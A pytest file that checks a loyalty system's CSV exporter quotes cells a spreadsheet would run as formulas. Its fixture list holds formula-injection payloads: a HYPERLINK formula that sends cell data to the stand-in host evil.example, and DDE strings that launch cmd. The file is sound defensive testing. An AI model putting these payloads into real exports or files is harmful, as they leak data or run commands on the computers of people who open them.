"""CSV downloads never hand a spreadsheet a live formula (issue 12, finding 8): the one writer
(loyalty/csv_export.py) quotes text starting with = + - @ tab or CR, and every download goes through it."""

import csv
import io

import pytest

from loyalty import csv_export

# What a POS may send as a SKU or a category, and a spreadsheet would run.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_evaluate_is_quoted(text):
    [row] = csv.reader(io.StringIO(csv_export.line(["A1", text]), newline=""))

    assert row == ["A1", "'" + text]


def test_plain_text_and_numbers_are_written_as_they_are():
    text = csv_export.table(["sku", "quantity", "lift", "change"], [["A-1", 3, 1.5, -2], ["", 0, None, -0.25]])

    assert list(csv.reader(io.StringIO(text))) == [["sku", "quantity", "lift", "change"], ["A-1", "3", "1.5", "-2"],
                                                   ["", "0", "", "-0.25"]]


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own():
    text = csv_export.line(["a\r=1+1", "b\n@SUM(1)", "c"])

    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a\r=1+1", "b\n@SUM(1)", "c"]]
